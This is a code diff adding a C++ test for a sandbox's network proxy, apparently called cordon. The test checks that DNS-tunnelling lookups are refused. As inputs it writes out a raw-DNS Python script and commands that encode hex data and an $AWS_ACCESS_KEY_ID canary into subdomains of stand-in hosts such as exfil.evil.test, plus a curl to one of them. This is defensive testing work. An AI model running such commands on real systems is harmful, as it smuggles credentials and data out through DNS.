@@ -242,6 +242,54 @@ TEST_F(LearnRun, APlaceholderOrACanarySentToAnotherHostIsStillRefused) {
   }
 }
 
+// Names only --learn's `*` allows are still checked for a DNS tunnel's shape before anything
+// resolves them (a lookup, or a connection by name through the proxy), a canary in a name among
+// them; an ordinary name is not.
+TEST_F(LearnRun, DnsTunnellingAndACanaryInANameAreStillRefused) {
+  const std::string dig = R"(import os, socket, struct, sys
+ns = [l.split()[1] for l in open("/etc/resolv.conf") if l.startswith("nameserver")][0]
+def ask(qid, name):
+    q = struct.pack(">HHHHHH", qid, 0x0100, 1, 0, 0, 0)
+    q += b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0" + struct.pack(">HH", 1, 1)
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.settimeout(5)
+    s.sendto(q, (ns, 53))
+    r = s.recv(4096)
+    return {0: "NOERROR", 3: "NXDOMAIN", 5: "REFUSED"}.get(r[3] & 15, "rcode%d" % (r[3] & 15))
+for i, name in enumerate(sys.argv[1:]):
+    print(name.split(".")[0][:8], ask(i + 1, name))
+)";
+  const std::string hex = "6b3f9c0e21a7d458aa906b3f9c0e21a7";
+  auto r = run({"-q", "--learn"}, "cat > dig.py <<'EOF'\n" + dig + "EOF\npython3 dig.py " + hex +
+                                      "." + hex + ".t1.exfil.evil.test " + std::string(50, 'q') +
+                                      ".exfil.evil.test \"$AWS_ACCESS_KEY_ID.other.test\" "
+                                      "other.test; curl -sS -m 5 http://" +
+                                      hex + ".exfil.evil.test/ 2>&1; echo; curl -sS -m 5 http://" +
+                                      api() + "/hello.txt");
+  EXPECT_THAT(r.out, HasSubstr("6b3f9c0e REFUSED\nqqqqqqqq REFUSED\n")) << r.out << r.err;
+  EXPECT_THAT(r.out, HasSubstr(" REFUSED\nother NOERROR\n")) << "the canary's name";
+  EXPECT_THAT(r.out, HasSubstr("cordon: " + hex +
+                               ".exfil.evil.test is refused: only \"*\" "
+                               "allows it, and it has a label that reads as encoded data"));
+  EXPECT_THAT(r.out, HasSubstr("hello through cordon")) << "an ordinary name is not refused";
+  size_t tunnel_dns = 0, tunnel_connect = 0;
+  for (const auto& ev : f_.last_events("net.dns")) {
+    if (ev.value("source", "") == "netproxy" &&
+        ev.value("rule", "").find("DNS tunnel") != std::string::npos) {
+      EXPECT_EQ(ev.value("decision", ""), "deny");
+      EXPECT_EQ(ev.value("rcode", ""), "REFUSED");
+      ++tunnel_dns;
+    }
+  }
+  for (const auto& ev : f_.last_events("net.refused")) {
+    tunnel_connect += ev.value("rule", "").find("DNS tunnel") != std::string::npos;
+  }
+  // The name carrying the canary (an AWS key id: 20 mixed letters and digits) is refused by
+  // its shape too.
+  EXPECT_EQ(tunnel_dns, 3u);
+  EXPECT_EQ(tunnel_connect, 1u);
+}
+
 TEST_F(LearnRun, FlagsThatContradictItAreRefused) {
   auto rw = f_.run({"--learn", "--mode", "rw", "--policy", policy_}, {"echo", "ran"});
   EXPECT_EQ(rw.exit_code(), 125);
